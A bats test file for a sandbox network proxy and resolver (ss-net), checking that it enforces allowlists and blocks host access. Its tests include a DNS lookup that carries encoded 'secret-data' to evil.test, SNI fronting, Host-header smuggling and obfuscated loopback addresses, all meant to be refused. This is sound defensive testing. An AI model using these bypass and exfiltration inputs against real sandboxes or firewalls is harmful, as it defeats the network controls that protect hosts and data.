#!/usr/bin/env bats
# ss-net on its own: the policy commands, and the proxy and resolver against a stand-in for the
# internet (a DNS server for fake names, an HTTP and an HTTPS server with a test CA) in a network
# namespace of the test's own, ss-net and its clients in another (world_up). Transparent
# interception is tested there, where the test's firewall rule redirects connections to a
# TEST-NET-2 address to ss-net, as a backend's would.

load helpers
load net_world

setup() {
  net_setup
}

teardown() {
  [ -z "${NSES:-}" ] || teardown_world
  net_teardown
}

# The stand-in internet (world_up): names allowed.test, other.test and evil.test at $OUTSIDE,
# rebind.test at 10.1.2.3 (a private address) and NAME=ADDRESS for each argument; an HTTP and an
# HTTPS server at $OUTSIDE. ss-net and its clients run in $NS.
fake_internet() {
  world_up
  NS=$OUT background "$W/dns.port" python3 "$SS_SOURCE_DIR/tests/cli/dns_server.py" "$OUTSIDE" 0 \
    "$W/dns.queries" allowed.test="$OUTSIDE" other.test="$OUTSIDE" evil.test="$OUTSIDE" \
    rebind.test=10.1.2.3 "$@"
  DNS_PORT=$(cat "$W/dns.port")
  mkdir -p "$W/www"
  echo "hello from outside" >"$W/www/index.html"
  NS=$OUT background "$W/http.port" python3 "$SS_SOURCE_DIR/tests/cli/web_server.py" "$OUTSIDE" 0 \
    "$W/www"
  HTTP_PORT=$(cat "$W/http.port")
  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=test-ca \
    -addext "subjectAltName=DNS:allowed.test,DNS:evil.test" \
    -keyout "$W/tls.key" -out "$W/tls.crt" 2>/dev/null
  NS=$OUT background "$W/https.port" python3 "$SS_SOURCE_DIR/tests/cli/web_server.py" "$OUTSIDE" 0 \
    "$W/www" "$W/tls.crt" "$W/tls.key"
  HTTPS_PORT=$(cat "$W/https.port")
}

# serve ARGS...: ss-net serve for sandbox "box" in the test's host with the stand-in resolver
# upstream.
serve() {
  background "$W/ready.json" "$SS_BUILD_DIR/libexec/ss/ss-net" serve --sandbox box \
    --upstream-dns "$OUTSIDE:$DNS_PORT" "$@"
  PROXY=$(jq -r '.proxy[0] // empty' "$W/ready.json")
  DNS=$(jq -r '.dns[0] // empty' "$W/ready.json")
  TRANSPARENT=$(jq -r '.transparent[0] // empty' "$W/ready.json")
}

LOG() { cat "$SS_HOME/.ss/sandboxes/box/net/log.jsonl"; }

@test "net: usage errors say what is wrong and exit 64; bad rules exit 65 with the forms" {
  run --separate-stderr ss net
  assert_failure 64
  assert_equal "$stderr" "$(printf '%s\n' "ss-net: error: a command is needed: allow, deny, mode, ls, log or serve" "hint: see 'ss net --help'")"
  run --separate-stderr ss net allow
  assert_failure 64
  run --separate-stderr ss net mode wide
  assert_failure 64
  [[ "$stderr" == *"unknown mode 'wide'"* ]]
  run --separate-stderr ss net ls extra
  assert_failure 64
  run --separate-stderr ss net serve --sandbox box
  assert_failure 64
  run --separate-stderr ss net ls --proxy 127.0.0.1:0
  assert_failure 64
  run --separate-stderr ss net allow '*example.com'
  assert_failure 65
  assert_equal "$stderr" "$(printf '%s\n' "ss-net: error: invalid network rule '*example.com': '*' only as the whole first label: *.example.com" "hint: rules look like: example.com, *.example.com, example.com:443, 10.0.0.0/8, 10.1.2.3:22, [2001:db8::]/32")"
  run --separate-stderr ss net ls --sandbox '../x'
  assert_failure 65
  # An allow rule nothing could ever pass is refused, not kept: the host's own addresses.
  for own in 127.0.0.1 127.0.0.0/8 '[::1]:5432' '[2002:7f00:1::]'; do
    run --separate-stderr ss net allow "$own" --sandbox box
    assert_failure 65
    assert_equal "${stderr_lines[0]}" "ss-net: error: '$own' is the host's own address: no rule opens it"
  done
  assert_equal "${stderr_lines[2]}" "hint: to give it one service of the host: ss tunnel -R PORT:127.0.0.1:PORT SANDBOX"
  assert_file_not_exists "$SS_HOME/.ss/sandboxes/box/net/policy.json"
  run --separate-stderr ss net allow example.com --sandbox boxx
  assert_failure 66
  assert_equal "$stderr" "$(printf '%s\n' "ss-net: error: sandbox 'boxx' does not exist" "hint: sandboxes: box")"
  assert_file_not_exists "$SS_HOME/.ss/sandboxes/box/net/policy.json"
}

@test "net: allow, deny and mode change the policy; ls shows it, in JSON too; files are 0600" {
  # A sandbox starts from the default: the agent's, the packages' and GitHub's hosts (the
  # packages from the image's record; with no image built, the archive and registry it uses).
  local defaults=("anthropic.com" "*.anthropic.com" "claude.ai" "*.claude.ai" "claude.com"
    "*.claude.com" "deb.debian.org" "registry.npmjs.org" "github.com" "*.github.com"
    "githubusercontent.com" "*.githubusercontent.com")
  run ss net ls --sandbox box
  assert_success
  assert_output "$(echo "Sandbox 'box': mode allowlist"; printf '  allow %s\n' "${defaults[@]}")"
  # The preset comes from the image the sandbox was made from.
  mkdir -p "$HOME/.cache/ss/images/img1" "$SS_HOME/.ss/sandboxes/other"
  echo '{"id":"img1","mirror":"http://mirror.example/debian","npm_registry":"https://npm.example","created":"2026-01-01T00:00:00Z"}' \
    >"$HOME/.cache/ss/images/img1/image.json"
  echo '{"name":"other","image":"img1"}' >"$SS_HOME/.ss/sandboxes/other/sandbox.json"
  run ss net ls --json --sandbox other
  echo "$output" | jq -e '.allow | index("mirror.example") and index("npm.example") and (index("deb.debian.org") | not)'
  # Changes.
  run ss net allow Example.COM '*.github.com:443' 198.51.100.0/24 --sandbox box
  assert_success
  assert_line "  allow example.com"
  assert_line "  allow *.github.com:443"
  assert_line "  allow 198.51.100.0/24"
  run ss net deny example.com evil.test --sandbox box
  refute_line "  allow example.com"
  assert_line "  deny  example.com"
  assert_line "  deny  evil.test"
  SS_SANDBOX=box run ss net mode open
  assert_success
  run ss net ls --json --sandbox box
  assert_success
  echo "$output" | jq -e '.kind == "NetPolicy" and .version == 1 and .sandbox == "box" and .mode == "open"
    and (.allow | index("*.github.com:443") and index("198.51.100.0/24") and index("claude.ai"))
    and .deny == ["example.com", "evil.test"]'
  [ "$(stat -c %a "$SS_HOME/.ss/sandboxes/box/net/policy.json")" = 600 ]
  [ "$(stat -c %a "$SS_HOME/.ss/sandboxes/box/net")" = 700 ]
  run ss net allow example.com --sandbox box
  refute_line "  deny  example.com"
  assert_line "  allow example.com"
}

@test "net: the proxy lets allowed names through and refuses the rest at once, with the reason" {
  fake_internet
  ss net allow allowed.test rebind.test --sandbox box >/dev/null
  serve --proxy 127.0.0.1:0
  # Plain HTTP and CONNECT to an allowed name.
  run in_ns curl -sS --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
  assert_success
  assert_output "hello from outside"
  run in_ns curl -sS -p --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
  assert_output "hello from outside"
  run in_ns curl -sS --proxy "http://$PROXY" --cacert "$W/tls.crt" "https://allowed.test:$HTTPS_PORT/"
  assert_output "hello from outside"
  # Denied: 403 with one line naming the rule and the command.
  run in_ns curl -s -w '%{http_code}' --proxy "http://$PROXY" "http://evil.test:$HTTP_PORT/"
  assert_output "ss-net: evil.test:$HTTP_PORT is not in the allowlist of sandbox 'box'; to allow it: ss net allow evil.test
403"
  run in_ns curl -sS --proxy "http://$PROXY" --cacert "$W/tls.crt" "https://evil.test:$HTTPS_PORT/"
  assert_failure
  assert_output --partial "403"
  # An allowed name that resolves into the host's networks, and an address named directly.
  run in_ns curl -s --proxy "http://$PROXY" "http://rebind.test:$HTTP_PORT/"
  assert_output "ss-net: rebind.test:$HTTP_PORT leads to 10.1.2.3, an address on the host or its network, which sandbox 'box' may not reach; to allow it: ss net allow 10.1.2.3"
  run in_ns curl -s --proxy "http://$PROXY" "http://127.0.0.3:$HTTP_PORT/"
  assert_output "ss-net: 127.0.0.3:$HTTP_PORT is not in the allowlist of sandbox 'box'; to allow it: ss net allow 127.0.0.3"
  # Not proxy requests.
  run in_ns curl -s -w '%{http_code}' "http://$PROXY/x"
  assert_output "ss-net: a proxy request needs an absolute http:// URL (or CONNECT)
400"
  # What the sandbox can read about its denials.
  run in_ns curl -s "http://$PROXY/denials"
  assert_line --regexp "^[0-9T:Z-]+ http evil.test:$HTTP_PORT: evil.test:$HTTP_PORT is not in the allowlist"
  assert_line --regexp "^[0-9T:Z-]+ connect evil.test:$HTTPS_PORT: "
  # The log: one line per connection, bytes counted for what went through.
  LOG | jq -e -s "map(select(.verdict == \"allow\" and .kind == \"http\" and .destination == \"allowed.test\"
    and .port == $HTTP_PORT and .address == \"$OUTSIDE\" and .bytes_in > 0 and .bytes_out > 0
    and .rule == \"allow allowed.test\" and .sandbox == \"box\")) | length == 1"
  LOG | jq -e -s 'map(select(.verdict == "deny")) | length == 4'
  [ "$(stat -c %a "$SS_HOME/.ss/sandboxes/box/net/log.jsonl")" = 600 ]
  run ss net log --sandbox box
  assert_success
  assert_line --regexp "  allow  http  allowed.test:$HTTP_PORT  \(allow allowed.test\)  [0-9]+ B out, [0-9]+ B in$"
  assert_line "    evil.test:$HTTP_PORT is not in the allowlist of sandbox 'box'; to allow it: ss net allow evil.test"
  run ss net log --json --sandbox box
  [ "${#lines[@]}" -eq "$(LOG | wc -l)" ]
}

# raw_tunnel HOST:PORT: a CONNECT to HOST:PORT through ss-net's proxy that sends nothing after
# it; prints what comes back within two seconds (the server may speak first).
raw_tunnel() {
  in_ns bash -c 'exec 3<>"/dev/tcp/${1%:*}/${1##*:}"; printf "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" "$2" "$2" >&3
    timeout 2 cat <&3 | tr -d "\r"' _ "$PROXY" "$1"
}

@test "net: a tunnel carries TLS for its CONNECT host only, and a proxy request's Host names its target: no fronting" {
  fake_internet
  # A server that speaks first (as SSH does), at the outside.
  NS=$OUT background "$W/banner.port" python3 -c '
import socket
s = socket.socket()
s.bind(("203.0.113.2", 0))
s.listen(8)
print(s.getsockname()[1], flush=True)
while True:
    c, _ = s.accept()
    c.sendall(b"SSH-2.0-stand-in\r\n")
    c.close()'
  BANNER_PORT=$(cat "$W/banner.port")
  ss net allow allowed.test --sandbox box >/dev/null
  serve --proxy 127.0.0.1:0
  # The CONNECT host's own name, in TLS, passes; so does a hello without a name.
  run in_ns curl -sS --proxy "http://$PROXY" --cacert "$W/tls.crt" "https://allowed.test:$HTTPS_PORT/"
  assert_output "hello from outside"
  run in_ns bash -c "echo | openssl s_client -proxy '$PROXY' -connect 'allowed.test:$HTTPS_PORT' -noservername 2>&1"
  assert_output --partial "CONNECTED"
  assert_output --partial "subject=CN"
  # Fronting: CONNECT allowed.test, a ClientHello for evil.test (curl, openssl, in another case).
  run in_ns curl -sS --proxy "http://$PROXY" --cacert "$W/tls.crt" \
    --connect-to "evil.test:$HTTPS_PORT:allowed.test:$HTTPS_PORT" "https://evil.test:$HTTPS_PORT/front"
  assert_failure
  refute_output --partial "hello from outside"
  run in_ns bash -c "echo | openssl s_client -proxy '$PROXY' -connect 'allowed.test:$HTTPS_PORT' -servername EVIL.test 2>&1"
  refute_output --partial "subject=CN"
  LOG | jq -e -s "map(select(.kind == \"connect\" and .verdict == \"deny\" and .rule == \"sni\"
    and .destination == \"allowed.test\" and .port == $HTTPS_PORT and .sni == \"evil.test\"
    and .reason == \"the TLS server name 'evil.test' is not the CONNECT host allowed.test\")) | length == 1"
  LOG | jq -e -s 'map(select(.rule == "sni" and .sni == "EVIL.test")) | length == 1'
  # The sandbox reads why.
  run in_ns curl -s "http://$PROXY/denials"
  assert_line --regexp "^[0-9T:Z-]+ connect allowed.test:$HTTPS_PORT: the TLS server name 'evil.test' is not the CONNECT host allowed.test$"
  # Not TLS: plain HTTP through a tunnel, and a server that speaks first, pass as before.
  run in_ns curl -sS -p --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
  assert_output "hello from outside"
  ss net allow "allowed.test:$BANNER_PORT" --sandbox box >/dev/null
  run raw_tunnel "allowed.test:$BANNER_PORT"
  assert_output --partial "SSH-2.0-stand-in"
  # Plain HTTP: the Host header names the URL's host, once.
  run in_ns curl -s -w '%{http_code}' --proxy "http://$PROXY" -H "Host: evil.test" "http://allowed.test:$HTTP_PORT/"
  assert_output "ss-net: the Host header 'evil.test' does not name allowed.test, the host the request is for
403"
  run in_ns curl -sS --proxy "http://$PROXY" -H "Host: ALLOWED.test.:$HTTP_PORT" "http://allowed.test:$HTTP_PORT/"
  assert_output "hello from outside"
  run in_ns bash -c 'exec 3<>"/dev/tcp/${1%:*}/${1##*:}"
    printf "GET http://allowed.test:%s/ HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n" "$2" >&3
    timeout 5 cat <&3 | tr -d "\r"' _ "$PROXY" "$HTTP_PORT"
  assert_line "HTTP/1.1 403 Forbidden"
  assert_line "ss-net: the request has more than one Host header (it is for allowed.test)"
  LOG | jq -e -s 'map(select(.kind == "http" and .verdict == "deny" and .rule == "host")) | length == 2'
}

@test "net: a policy change counts for the next connection, without a restart" {
  fake_internet
  ss net allow allowed.test --sandbox box >/dev/null
  serve --proxy 127.0.0.1:0 --dns 127.0.0.1:0
  run in_ns curl -s -o /dev/null -w '%{http_code}' --proxy "http://$PROXY" "http://other.test:$HTTP_PORT/"
  assert_output 403
  ss net allow other.test --sandbox box >/dev/null
  run in_ns curl -s --proxy "http://$PROXY" "http://other.test:$HTTP_PORT/"
  assert_output "hello from outside"
  run in_ns dig +short -p "${DNS##*:}" @127.0.0.1 other.test
  assert_output "$OUTSIDE"
  ss net deny other.test --sandbox box >/dev/null
  run in_ns curl -s -o /dev/null -w '%{http_code}' --proxy "http://$PROXY" "http://other.test:$HTTP_PORT/"
  assert_output 403
  ss net mode none --sandbox box >/dev/null
  run in_ns curl -s --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
  assert_output "ss-net: sandbox 'box' has no network (mode none); to change it: ss net mode allowlist"
  # A damaged policy file keeps the last good policy.
  echo '{"mode":' >"$SS_HOME/.ss/sandboxes/box/net/policy.json"
  run in_ns curl -s -o /dev/null -w '%{http_code}' --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
  assert_output 403
  grep -q "keeping the previous policy" "$W/ready.json.err"
}

@test "net: the resolver answers allowed names only; nothing else reaches the upstream resolver" {
  fake_internet
  ss net allow allowed.test rebind.test --sandbox box >/dev/null
  serve --dns 127.0.0.1:0
  local p=${DNS##*:}
  run in_ns dig +short -p "$p" @127.0.0.1 allowed.test
  assert_output "$OUTSIDE"
  run in_ns dig +short +tcp -p "$p" @127.0.0.1 ALLOWED.test
  assert_output "$OUTSIDE"
  run in_ns dig -p "$p" @127.0.0.1 evil.test
  assert_output --partial "status: NXDOMAIN"
  # Data carried out in a name, in a TXT lookup of an allowed name, in a name with odd bytes.
  run in_ns dig -p "$p" @127.0.0.1 TXT c2VjcmV0LWRhdGE.evil.test
  assert_output --partial "status: NXDOMAIN"
  run in_ns dig -p "$p" @127.0.0.1 TXT allowed.test
  assert_output --partial "status: REFUSED"
  run in_ns dig -p "$p" @127.0.0.1 'c2Vj\.allowed.test'
  assert_output --partial "status: NXDOMAIN"
  run in_ns dig -p "$p" @127.0.0.1 +tcp ANY allowed.test
  assert_output --partial "status: REFUSED"
  # The upstream saw allowed.test (A) only.
  run sort -u "$W/dns.queries"
  assert_output "allowed.test 1"
  LOG | jq -e -s 'map(select(.kind == "dns" and .verdict == "deny")) | length == 5'
  LOG | jq -e -s 'map(select(.kind == "dns" and .destination == "c2vjcmv0lwrhdge.evil.test"
    and .type == "TXT" and .rule == "mode allowlist")) | length == 1'
}

# dns_over STDIN_CMD...: one A lookup of allowed.test, DNS over TCP through CMD's standard input
# and output (as QEMU hands a guest's connection to ss-net relay): "rcode N ADDRESS...".
dns_over() {
  python3 - "$@" <<'EOF'
import socket, struct, subprocess, sys
q = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x07allowed\x04test\x00" + struct.pack("!HH", 1, 1)
p = subprocess.Popen(sys.argv[1:], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
p.stdin.write(struct.pack("!H", len(q)) + q)
p.stdin.flush()
n = struct.unpack("!H", p.stdout.read(2))[0]
a = p.stdout.read(n)
p.stdin.close()
p.wait(10)
print("rcode", a[3] & 15, socket.inet_ntoa(a[-4:]) if a[7] else "")
EOF
}

@test "relay: joins standard input and output to the sandbox's ss-net on loopback, found afresh for each connection; fails closed" {
  relay=("$SS_BUILD_DIR/libexec/ss/ss-net" relay --sandbox box)
  run --separate-stderr "${relay[@]}"
  assert_failure 64
  assert_equal "$stderr" "$(printf '%s\n' "ss-net: error: relay needs --to proxy or --to dns" "hint: see 'ss net relay --help'")"
  run --separate-stderr "${relay[@]}" --to smtp
  assert_failure 64
  run --separate-stderr "$SS_BUILD_DIR/libexec/ss/ss-net" relay --to proxy
  assert_failure 64
  run --separate-stderr ss net ls --to dns
  assert_failure 64
  assert_equal "$stderr" "$(printf '%s\n' "ss-net: error: --to is not an option of 'ss net ls'" "hint: --to goes with ss net relay" "hint: see 'ss net ls --help'")"
  # No ss-net: the connection is closed at once.
  run --separate-stderr "${relay[@]}" --to proxy </dev/null
  assert_failure 69
  assert_equal "$stderr" "$(printf '%s\n' "ss-net: error: the network proxy of sandbox 'box' is not running" "hint: ss starts it with the sandbox's next command")"

  fake_internet
  relay=(ip netns exec "$NS" "${relay[@]}")
  ss net allow allowed.test --sandbox box >/dev/null
  record() {  # what ss writes for an ss-net on loopback (egress.cpp)
    jq -c --argjson pid "$1" '{pid: $pid, interface: "", ready: .}' "$W/ready.json" \
      >"$SS_HOME/.ss/sandboxes/box/net/serve.json"
  }
  serve --proxy 127.0.0.1:0 --dns 127.0.0.1:0
  record "${PIDS[-1]}"
  run bash -c '{ printf "GET http://allowed.test:$1/ HTTP/1.0\r\n\r\n"; sleep 1; } | "${@:2}" --to proxy' \
    _ "$HTTP_PORT" "${relay[@]}"
  assert_success
  assert_line --partial "HTTP/1.1 200"
  assert_line "hello from outside"
  run dns_over "${relay[@]}" --to dns
  assert_output "rcode 0 $OUTSIDE"
  # ss-net gone, then started again on other ports: the next connection goes there.
  first=${PIDS[-1]}
  serve --proxy 127.0.0.1:0 --dns 127.0.0.1:0
  kill "$first"
  wait "$first" 2>/dev/null || true
  run "${relay[@]}" --to dns </dev/null
  assert_failure 69
  record "${PIDS[-1]}"
  run dns_over "${relay[@]}" --to dns
  assert_output "rcode 0 $OUTSIDE"
  # An ss-net behind a firewall fence (not on loopback) is not for relays.
  jq -c 'del(.interface)' "$SS_HOME/.ss/sandboxes/box/net/serve.json" >"$W/r" &&
    mv "$W/r" "$SS_HOME/.ss/sandboxes/box/net/serve.json"
  run "${relay[@]}" --to proxy </dev/null
  assert_failure 69
}

@test "net: transparent interception decides on SNI and Host, and resets what it refuses" {
  fake_internet
  # Where the sandbox's connections seem to go: a TEST-NET-2 address, redirected to ss-net.
  ip -n "$NS" route add 198.51.100.0/24 dev wan0
  ss net allow allowed.test --sandbox box >/dev/null
  serve --transparent 127.0.0.1:0 --proxy 127.0.0.1:0
  redirect_outside "$HTTP_PORT" "$HTTPS_PORT"
  run in_ns curl -sS --resolve "allowed.test:$HTTP_PORT:198.51.100.9" "http://allowed.test:$HTTP_PORT/"
  assert_success
  assert_output "hello from outside"
  run in_ns curl -sS --cacert "$W/tls.crt" --resolve "allowed.test:$HTTPS_PORT:198.51.100.9" \
    "https://allowed.test:$HTTPS_PORT/"
  assert_success
  assert_output "hello from outside"
  # Refused: plain HTTP gets the 403 line, TLS is reset (a wrong name, no name at all).
  run in_ns curl -s --resolve "evil.test:$HTTP_PORT:198.51.100.9" "http://evil.test:$HTTP_PORT/"
  assert_output "ss-net: evil.test:$HTTP_PORT is not in the allowlist of sandbox 'box'; to allow it: ss net allow evil.test"
  run in_ns curl -sS --cacert "$W/tls.crt" --resolve "evil.test:$HTTPS_PORT:198.51.100.9" \
    "https://evil.test:$HTTPS_PORT/"
  assert_failure
  assert_output --partial "reset"
  run in_ns curl -sSk "https://198.51.100.9:$HTTPS_PORT/"
  assert_failure
  # A Host that writes an IPv4 address as other parsers read it: neither address nor name.
  run in_ns curl -s -H "Host: 0x7f.1" "http://198.51.100.9:$HTTP_PORT/"
  assert_output "ss-net: '0x7f.1:$HTTP_PORT' is not a valid host name"
  # The SNI names the server, whatever address the sandbox connected to: a name that is allowed
  # with another address still goes to the allowed name's address.
  LOG | jq -e -s "map(select(.kind == \"tls\" and .transparent and .sni == \"allowed.test\"
    and .verdict == \"allow\" and .port == $HTTPS_PORT)) | length == 1"
  LOG | jq -e -s 'map(select(.kind == "tls" and .verdict == "deny" and .rule == "sni"
    and .reason == "no server name (SNI) in the TLS ClientHello")) | length == 1'
  LOG | jq -e -s "map(select(.kind == \"http\" and .transparent and .host == \"evil.test\"
    and .verdict == \"deny\")) | length == 1"
}

# raw_proxy REQUEST_LINE: one request, as written, to ss-net's proxy from the test's host; prints
# the answer's body (what no client would send: addresses in forms curl would rewrite).
raw_proxy() {
  in_ns bash -c 'exec 3<>"/dev/tcp/${1%:*}/${1##*:}"; printf "%s\r\nHost: x\r\n\r\n" "$2" >&3
    timeout 10 cat <&3 | sed -n "/^ss-net: /p"' _ "$PROXY" "$1"
}

# marker: a service of the test's host on every address, IPv4 and IPv6 ($MARK its port), that
# writes down every connection it gets to $W/marker.hits: what ss-net must never reach.
marker() {
  background "$W/marker.port" python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
s.bind(("::", 0))
s.listen(16)
print(s.getsockname()[1], flush=True)
while True:
    c, peer = s.accept()
    open(sys.argv[1], "a").write("hit %s\n" % peer[0])
    c.settimeout(2)
    try:
        c.recv(4096)
        c.sendall(b"HTTP/1.0 200 OK\r\n\r\nthe host says hi\n")
    except OSError:
        pass
    c.close()' "$W/marker.hits"
  MARK=$(cat "$W/marker.port")
  # It works: a connection of the host's own is written down.
  in_ns curl -s "http://127.0.0.1:$MARK/" >/dev/null
  [ "$(wc -l <"$W/marker.hits")" -eq 1 ]
}

@test "net: never the host itself nor a sandbox's network, in any mode, whatever the rules and the form of the address" {
  fake_internet loop.test=::ffff:127.0.0.1 wan.test=::ffff:$HOST_WAN mapped.test=::ffff:$OUTSIDE \
    nat64.test=64:ff9b::7f00:1 nat64wan.test=64:ff9b::c000:201 sixtofour.test=2002:7f00:1::1 \
    compat.test=::127.0.0.1 translated.test=::ffff:0:127.0.0.1 \
    teredo.test=2001:0:cb00:7102:0:f227:80ff:fffe host.test=$HOST_WAN zero.test=0.0.0.0 \
    v6loop.test=::1 local.test=64:ff9b:1:7f00:0:100::
  local homes=(loop wan nat64 nat64wan sixtofour compat translated teredo host zero v6loop local)
  ss net allow allowed.test mapped.test "${homes[@]/%/.test}" --sandbox box >/dev/null
  serve --proxy 127.0.0.1:0
  marker
  # An IPv4-mapped answer is the IPv4 address it maps: this one is the outside.
  run in_ns curl -sS --proxy "http://$PROXY" "http://mapped.test:$HTTP_PORT/"
  assert_output "hello from outside"
  # Every other name leads home, in every form: refused, in allowlist and open mode, even with a
  # rule that names the address (which ss net allow refuses to add: written into the sandbox's
  # changes here, as a hand or an older ss may have).
  changes="$SS_HOME/.ss/sandboxes/box/net/changes.json"
  jq --arg wan "$HOST_WAN" '. + [{allow: "127.0.0.1"}, {allow: $wan}, {allow: "[::1]"}]' \
    "$changes" >"$W/changes.json"
  cat "$W/changes.json" >"$changes"
  ss net allow 0.0.0.0/0 "[::]/0" --sandbox box >/dev/null
  run ss net ls --sandbox box
  assert_line "  allow 127.0.0.1"
  for mode in allowlist open; do
    ss net mode "$mode" --sandbox box >/dev/null
    for name in "${homes[@]}"; do
      run in_ns curl -s -w '%{http_code}' --proxy "http://$PROXY" "http://$name.test:$MARK/"
      assert_output --regexp "^ss-net: $name\\.test:$MARK (leads to .*, )?(is )?an address of the host itself, which no sandbox may reach, whatever its rules or mode
403\$"
    done
    # Named directly, by CONNECT and in a URL, in every form.
    for target in "127.0.0.1:$MARK" "$HOST_WAN:$MARK" "[::ffff:127.0.0.1]:$MARK" "[::1]:$MARK" \
      "[64:ff9b::7f00:1]:$MARK" "[2002:c000:201::]:$MARK" "0.0.0.0:$MARK" "127.0.0.1:${PROXY##*:}"; do
      run raw_proxy "CONNECT $target HTTP/1.1"
      assert_output --partial "an address of the host itself"
      run raw_proxy "GET http://$target/ HTTP/1.1"
      assert_output --partial "an address of the host itself"
    done
    # IPv4 in the forms other parsers read as 127.0.0.1: neither addresses nor names.
    for target in 2130706433 0x7f000001 0x7f.1 0177.0.0.1 127.1 127.0.1 017700000001 1.0x7f; do
      run raw_proxy "CONNECT $target:$MARK HTTP/1.1"
      assert_output "ss-net: '$target:$MARK' is not a valid host name"
      run raw_proxy "GET http://$target:$MARK/ HTTP/1.1"
      assert_output "ss-net: '$target:$MARK' is not a valid host name"
    done
  done
  # The marker heard only its own test; the upstream resolver never heard a numeric name.
  [ "$(wc -l <"$W/marker.hits")" -eq 1 ]
  run grep -c -E '^(0x|[0-9])[0-9a-fx.]* ' "$W/dns.queries"
  assert_output 0
  LOG | jq -e -s 'map(select(.verdict == "deny" and .rule == "host address")) | length >= 40'
}

@test "net: the host as its interfaces are at each connection: its addresses, its LAN, its sandboxes' bridges" {
  fake_internet later.test=198.18.5.5
  ss net mode open --sandbox box >/dev/null
  serve --proxy 127.0.0.1:0
  marker
  run in_ns curl -sS --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
  assert_output "hello from outside"
  # The outside becomes part of the host's LAN: refused at once; out of it, reached again.
  ip -n "$NS" addr add 203.0.113.1/24 dev wan0
  run in_ns curl -s --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
  assert_output "ss-net: allowed.test:$HTTP_PORT leads to $OUTSIDE, an address on the host or its network, which sandbox 'box' may not reach; to allow it: ss net allow $OUTSIDE"
  ip -n "$NS" addr del 203.0.113.1/24 dev wan0
  run in_ns curl -sS --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
  assert_output "hello from outside"
  # On the LAN, a rule that names it opens it; one for every address does not.
  ip -n "$NS" addr add 203.0.113.1/24 dev wan0
  ss net allow 0.0.0.0/0 --sandbox box >/dev/null
  run in_ns curl -s --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
  assert_output --partial "an address on the host or its network"
  ss net allow 203.0.113.0/24 --sandbox box >/dev/null
  run in_ns curl -sS --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
  assert_output "hello from outside"
  ip -n "$NS" addr del 203.0.113.1/24 dev wan0
  # An address becomes the host's own (the marker listens there): refused at once, rule or not;
  # when it goes, it is tried again (and found unreachable: 502, not 403).
  ss net allow 198.18.5.5 --sandbox box >/dev/null
  run in_ns curl -s -w '%{http_code}' --proxy "http://$PROXY" "http://later.test:$MARK/"
  assert_output --regexp "^ss-net: cannot connect to 198\.18\.5\.5 port $MARK: .*
502\$"
  ip -n "$NS" addr add 198.18.5.5/32 dev lo
  run in_ns curl -s -w '%{http_code}' --proxy "http://$PROXY" "http://later.test:$MARK/"
  assert_output "ss-net: later.test:$MARK leads to 198.18.5.5, an address of the host itself, which no sandbox may reach, whatever its rules or mode
403"
  ip -n "$NS" addr del 198.18.5.5/32 dev lo
  run in_ns curl -s -w '%{http_code}' --proxy "http://$PROXY" "http://later.test:$MARK/"
  assert_output --regexp "502\$"
  # Another sandbox's bridge appears: its network and its gateway are never reached.
  ip -n "$NS" link add ssn-0e2e5a4d1c type bridge
  ip -n "$NS" addr add 10.213.0.1/24 dev ssn-0e2e5a4d1c
  ip -n "$NS" link set ssn-0e2e5a4d1c up
  ss net allow 10.213.0.0/24 --sandbox box >/dev/null
  run raw_proxy "CONNECT 10.213.0.5:22 HTTP/1.1"
  assert_output "ss-net: 10.213.0.5:22 is on 10.213.0.0/24 on ssn-0e2e5a4d1c, a network of the host's sandboxes and containers, which no sandbox may reach, whatever its rules or mode"
  run raw_proxy "CONNECT [64:ff9b::ad5:5]:22 HTTP/1.1"
  assert_output "ss-net: 64:ff9b::ad5:5:22 leads to 64:ff9b::ad5:5 (10.213.0.5), on 10.213.0.0/24 on ssn-0e2e5a4d1c, a network of the host's sandboxes and containers, which no sandbox may reach, whatever its rules or mode"
  run raw_proxy "CONNECT 10.213.0.1:$MARK HTTP/1.1"
  assert_output --partial "an address of the host itself"
  [ "$(wc -l <"$W/marker.hits")" -eq 1 ]
}

@test "net: serve says which listener it cannot bind" {
  fake_internet
  serve --proxy 127.0.0.1:0
  run --separate-stderr in_ns "$SS_BUILD_DIR/libexec/ss/ss-net" serve --sandbox box \
    --upstream-dns "$OUTSIDE:$DNS_PORT" --proxy "$PROXY"
  assert_failure 69
  [[ "$stderr" == "ss-net: error: cannot listen for the proxy on 127.0.0.1 port ${PROXY##*:}: Address already in use" ]]
}

# A host, a sandbox and the internet as three network namespaces of the test's own: the sandbox's
# link to the host is a veth pair, the fence goes on the host's end, and root in the sandbox
# tries every way out. The host forwards packets, as one running a container engine does (a new
# namespace inherits IPv4 forwarding from the machine's own, which is off until an engine turns it
# on: without it the host drops what the fence should refuse, and the refusals time out).
# wire NS_A IF_A ADDR_A NS_B IF_B ADDR_B [routed]: a veth pair between two namespaces, a /24 on
# it, and B's default route through A; routed: a point-to-point link instead, each side a /32 and
# a route to the other (the host's link to the internet: the internet is on none of its networks).
wire() {
  local prefix=24
  [ "${7:-}" != routed ] || prefix=32
  ip -n "$1" link add "$2" type veth peer name "$5" netns "$4"
  ip -n "$1" addr add "$3/$prefix" dev "$2"
  ip -n "$1" link set "$2" up
  ip -n "$4" addr add "$6/$prefix" dev "$5"
  ip -n "$4" link set "$5" up
  if [ "$prefix" = 32 ]; then
    ip -n "$1" route add "$6/32" dev "$2"
    ip -n "$4" route add "$3/32" dev "$5"
  fi
  ip -n "$4" route add default via "$3" dev "$5"
}

fenced_world() {
